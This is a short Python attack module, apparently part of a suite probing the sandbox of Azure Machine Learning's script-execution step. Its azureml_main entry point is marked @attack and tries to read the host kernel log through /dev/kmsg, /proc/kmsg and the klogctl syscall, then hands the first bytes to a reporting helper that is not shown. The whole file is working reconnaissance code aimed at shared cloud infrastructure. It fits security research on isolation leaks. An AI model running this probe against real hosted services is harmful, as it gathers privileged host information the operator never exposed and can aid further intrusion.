"""Reads what the kernel logged, by device and by call."""

import ctypes

from attack import LIBC, attack, every, read, told


def by_call():
    content = ctypes.create_string_buffer(4096)
    count = LIBC.klogctl(3, content, 4096)
    return told("the kernel's log", content.raw[:200]) if count > 0 else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [lambda: read("/dev/kmsg"), lambda: read("/proc/kmsg"), by_call])
